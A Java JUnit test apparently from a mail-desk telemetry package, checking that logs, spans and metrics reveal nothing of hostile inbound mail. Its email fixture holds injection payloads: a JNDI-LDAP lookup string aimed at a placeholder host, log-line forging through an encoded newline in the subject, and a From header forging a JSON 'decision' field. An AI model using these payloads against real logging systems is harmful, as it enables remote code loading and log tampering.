package dev.threadmark.telemetry;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Locale;
import java.util.logging.Handler;
import java.util.logging.LogRecord;
import java.util.logging.Logger;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/** Mail whose every part is a secret, and what is recorded of it. */
class NothingOfAMailIsToldTest {
  /** What of the mails below must be found nowhere. */
  private static final List<String> SECRETS =
      List.of(
          "xq-subject",
          "xq-body",
          "xq-sender",
          "xq-name",
          "xq-message",
          "xq-reference",
          "xq-file",
          "xq-provider",
          "xq-list",
          "acme-secret");

  private static final String HOSTILE =
      """
      From: "xq-name {0} \\" , \\"decision\\":\\"forged" <xq-sender%d@customer.example>
      To: support@acme-secret.example
      Message-ID: <xq-message%d@customer.example>
      References: <xq-reference@customer.example>
      List-Id: <xq-list.example>
      Subject: =?utf-8?q?xq-subject=0A{"level":"ERROR","message":"xq-subject"}?=
      MIME-Version: 1.0
      Content-Type: multipart/mixed; boundary=b

      --b
      Content-Type: text/plain; charset=%s

      xq-body {0} ${jndi:ldap://xq-body.example} %%s
      --b
      Content-Type: application/x-unknown; name="xq-file.bin"
      Content-Disposition: attachment; filename="xq-file.bin"

      xq-body
      --b--
      """;

  private final List<String> lines = Collections.synchronizedList(new ArrayList<>());
  private final Logger logger = Logger.getLogger("dev.threadmark");
  private final Handler handler = new Collecting();
  private final Recorded recorded = new Recorded();
  private final WatchedDesk desk = new WatchedDesk(recorded.sdk);

  @BeforeEach
  void listen() {
    logger.addHandler(handler);
    desk.provider.deliver("xq-provider-0", HOSTILE.formatted(0, 0, "utf-8"));
    desk.provider.deliver("xq-provider-1", HOSTILE.formatted(1, 1, "xq-body"));
    desk.provider.deliver("xq-provider-2", "no header at all xq-body");
    desk.provider.deliverBroken("xq-provider-3");
    desk.provider.deliver("xq-provider-4", HOSTILE.formatted(0, 0, "utf-8"));
  }

  @AfterEach
  void listenNoMore() {
    logger.removeHandler(handler);
  }

  @Test
  void noSpanMetricOrLineHoldsAnythingOfIt() {
    workThrough();

    String all = (recorded.text() + String.join("", lines)).toLowerCase(Locale.ROOT);
    SECRETS.forEach(secret -> assertFalse(all.contains(secret), () -> secret + " in " + all));
    assertFalse(all.contains("@"), all);
    assertFalse(all.contains("jndi"), all);
  }

  @Test
  void thereIsOneLineForEachMailAndItIsInTheTraceOfTheBell() {
    workThrough();

    List<JsonNode> mails = ours("mail");
    assertEquals(5, mails.size());
    for (JsonNode mail : mails) {
      assertEquals("INFO", mail.path("level").asText());
      assertEquals(WatchedDesk.TRACE, mail.path("trace").asText());
      assertTrue(mail.hasNonNull("rule") && mail.hasNonNull("kind"), mail::toString);
      boolean none = mail.path("decision").asText().equals("quarantine");
      assertEquals(none, mail.path("ticket").asText().isEmpty(), mail::toString);
    }
    assertEquals(1, ours("mailbox").size());
  }

  @Test
  void theSecretsAreInWhatWasHandled() {
    String all = HOSTILE + "xq-provider-0 " + OneMailbox.ID;
    SECRETS.forEach(secret -> assertTrue(all.contains(secret), secret));
  }

  private void workThrough() {
    desk.provider.hinder("429 ApplicationThrottled");
    desk.ring();
    desk.ring();
    desk.keep();
  }

  /** Other tests log at the same time, of other mailboxes or of none. */
  private List<JsonNode> ours(String message) {
    return List.copyOf(lines).stream()
        .map(NothingOfAMailIsToldTest::parsed)
        .filter(line -> line.path("message").asText().equals(message))
        .filter(line -> line.path("mailbox").asText().equals(Names.of(OneMailbox.ID)))
        .toList();
  }

  private static JsonNode parsed(String line) {
    try {
      return new ObjectMapper().readTree(line);
    } catch (IOException e) {
      throw new AssertionError("no JSON: " + line, e);
    }
  }

  private final class Collecting extends Handler {
    private final Thread mine = Thread.currentThread();
    private final JsonLines format = new JsonLines(LogContext::now);

    /** What a thread of another test logs is not for this one. */
    @Override
    public void publish(LogRecord record) {
      if (Thread.currentThread() == mine) {
        lines.add(format.format(record));
      }
    }

    @Override
    public void flush() {}

    @Override
    public void close() {}
  }
}
